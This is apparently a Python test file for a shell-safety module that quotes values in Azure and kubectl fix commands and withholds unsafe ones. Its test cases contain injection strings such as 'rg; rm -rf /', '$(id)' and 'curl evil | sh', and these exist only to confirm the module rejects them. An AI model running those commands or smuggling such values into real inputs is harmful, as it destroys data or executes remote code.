"""handlers/shellsafe.py: every value in a fix is quoted when it follows its grammar and
withheld behind a harmless placeholder when it does not; no fix line runs anything but the
command it shows."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from handlers.shellsafe import arg, fits, is_safe, safe_line

QUICK = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@QUICK
@given(
    st.text(max_size=60),
    st.sampled_from(
        ["arm_name", "arm_id", "dns_name", "k8s_name", "label", "image", "cidr", "port", "word"]
    ),
)
def test_any_value_in_a_fix_is_safe_to_paste(value, grammar):
    line = f"az thing --name {arg(value, grammar, 'thing')} --other x"
    assert is_safe(line) and shlex.split(line)[:3] == ["az", "thing", "--name"]


@pytest.mark.parametrize(
    ("value", "grammar", "ok"),
    [
        ("rg-net_01(prod)", "arm_name", True),
        ("rg; rm -rf /", "arm_name", False),
        ("*.contoso.com", "dns_name", True),
        ("mcr.microsoft.com/azurelinux/busybox:1.36", "image", True),
        ("app:1.0 --image x; curl evil | sh", "image", False),
        ("10.0.0.0/8", "cidr", True),
        ("10.0.0.1", "cidr", True),
        ("10.0", "cidr", False),
        ("443-445", "port", True),
        ("web/api-1", "k8s_name", False),
    ],
)
def test_grammars(value: str, grammar, ok: bool) -> None:
    assert fits(value, grammar) is ok


def test_a_value_off_its_grammar_becomes_a_placeholder_that_says_why() -> None:
    assert arg("nsg-1", "arm_name", "nsg") == "nsg-1"
    assert arg("$(id)", "arm_name", "nsg") == "'<nsg: withheld, not an Azure resource name>'"
    assert arg(None, "port", "port") == "'<port: withheld, not a port or port range>'"


def test_only_the_command_shown_runs() -> None:
    assert is_safe("az network nsg rule create --name 'a b' --priority 100")
    assert is_safe("az aks update --name c   # why: the fix")
    assert is_safe("kubectl apply -f - <<'EOF'\nkind: NetworkPolicy\nEOF")
    for line in ("a; b", "a | sh", 'echo "$HOME"', "a `b`", "x > /etc/passwd", "a\nb"):
        assert not is_safe(line), line
    assert not is_safe("kubectl apply -f - <<'EOF'\nEOF\nrm -rf /\nEOF")


def test_safe_line_quotes_template_placeholders_and_withholds_the_rest() -> None:
    assert safe_line("az network firewall policy --name <firewall-policy>") == (
        "az network firewall policy --name '<firewall-policy>'"
    )
    assert safe_line("curl x | sh").startswith("# a command was withheld here")
    assert safe_line("# note\x07") == "# note "
